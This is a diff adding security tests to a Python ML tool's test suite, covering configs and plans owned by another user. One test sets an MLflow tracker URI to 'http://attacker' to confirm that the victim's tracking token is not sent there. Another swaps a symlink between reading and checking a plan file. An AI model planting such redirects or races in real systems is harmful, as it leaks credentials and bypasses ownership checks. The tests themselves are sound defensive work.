@@ -9,14 +9,18 @@ import shutil
 import subprocess
 import sys
 from pathlib import Path
+from types import SimpleNamespace
 
 import pytest
 
 import jaxscale as jxs
 from jaxscale import config as cfg
+from jaxscale import files, owners
+from jaxscale.cli import submit
 from jaxscale.config.record import FORMAT, to_plain
 from jaxscale.metrics import read_json
 from support.configs import small_config, tiny_language
+from support.errors import config_error
 from support.two_users import ATTACKER, VICTIM
 
 PROJECT = 2000  # a group of both users
@@ -258,6 +262,30 @@ def test_a_run_of_another_user_chooses_no_place_for_files(users, run):
   assert "cache_dir='/any'" in settings_of(users, run, "--trust")
 
 
+def test_a_run_of_another_user_chooses_no_server(users, run):
+  """MLflow would send it the metrics, the environment and the victim's MLFLOW_TRACKING_TOKEN."""
+  described = read_json(run / "config.json")
+  described["config"]["model"]["class"] = "MLP"
+  described["config"]["log"] = {
+    "class": "Log",
+    "trackers": [{"class": "MLflow", "uri": "http://attacker"}],
+  }
+  (run / "config.json").write_text(json.dumps(described))
+  code = "import sys; from jaxscale.config.loading import load_config; "
+  code += "print(load_config(sys.argv[1], trust=sys.argv[2:] == ['--trust']).log)"
+
+  def log(*options):
+    return users.run(VICTIM, sys.executable, "-P", "-c", code, run, *options)
+
+  users.give(run, VICTIM)
+  assert "uri='http://attacker'" in log().stdout
+  users.give(run, ATTACKER)
+  done = log()
+  assert "uri=None" in done.stdout
+  assert f"MLflow.uri=http://attacker is not used, since {run}/config.json belongs" in done.stderr
+  assert "uri='http://attacker'" in log("--trust").stdout
+
+
 def test_options_of_the_compiler_need_trust(users, run):
   """XLA starts programs of a folder that an option names, and writes files where another says."""
   described = read_json(run / "config.json")
@@ -282,14 +310,36 @@ def test_a_plan_of_another_user_needs_trust(users):
   config = users.attacker / "evil.py"
   config.write_text(EVIL + "def get_config(): return jaxscale.load_config('digits')")
   plan = users.attacker / "plan.json"
-  submit = {"config": str(config), "overrides": {}, "nodes": 1, "site": str(config)}
-  plan.write_text(json.dumps({"submit": submit}))
+  asked = {"config": str(config), "overrides": {}, "nodes": 1, "site": str(config)}
+  plan.write_text(json.dumps({"submit": asked}))
   users.give(users.attacker, ATTACKER)
   variables = {"EXECUTED": str(users.victim / "executed")}
   words = "submit", "--plan", plan, "--runs", users.victim / "runs", "--dry-run"
   done = users.jaxscale(*words, **variables)
   assert done.returncode == 2 and not (users.victim / "executed").exists()
   assert f"{plan} belongs to another user (uid {ATTACKER}); add --trust" in done.stderr
+
+
+def test_a_link_to_a_plan_is_resolved_once(tmp_path, monkeypatch):
+  """Between reading and check, its owner could lead it from his plan to one of the victim's."""
+  for name in ("good", "evil"):
+    plan = {"submit": {"config": f"{name}.py", "overrides": {}, "nodes": 1}}
+    (tmp_path / name).write_text(json.dumps(plan))
+  link, read = tmp_path / "plan.json", files.require_json
+  link.symlink_to("evil")
+
+  def read_then_exchange(*args):
+    content = read(*args)
+    link.unlink()
+    link.symlink_to("good")
+    return content
+
+  monkeypatch.setattr(files, "require_json", read_then_exchange)
+  checked = []
+  monkeypatch.setattr(owners, "unsafe_owner", lambda path: checked.append(path.name) or "it is his")
+  with config_error("add --trust"):
+    submit._take_plan(SimpleNamespace(config=None, plan=str(link), trust=False))
+  assert checked == ["evil"]
 
 
 # Waits between the check of the folder and the loading of a program.
